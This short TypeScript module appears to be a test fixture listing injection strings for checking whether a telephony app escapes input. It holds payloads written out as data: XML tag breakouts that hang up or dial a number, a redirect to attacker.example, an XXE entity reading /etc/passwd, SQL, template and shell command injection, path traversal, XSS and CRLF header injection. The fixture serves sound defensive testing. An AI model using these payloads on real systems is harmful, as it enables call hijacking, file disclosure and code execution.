import { fixedForms, type Forms } from '../forms/form.ts'

/** Texts that turn into markup, code or paths where an app does not escape what it got. */
export const injections: Forms = fixedForms([
  '</Say><Hangup/><Say>',
  '<Redirect>https://attacker.example/</Redirect>',
  '"/><Dial>+14155550199</Dial><x y="',
  ']]><Dial>+14155550199</Dial>',
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '&lt;Say&gt;',
  '&undefined;',
  "' OR '1'='1' --",
  '${7*7}{{7*7}}<%= 7*7 %>',
  '$(touch /tmp/ringback)`id`',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  'x\r\nX-Injected: 1',
  '__proto__',
  '%00%0d%0a%3CSay%3E',
])
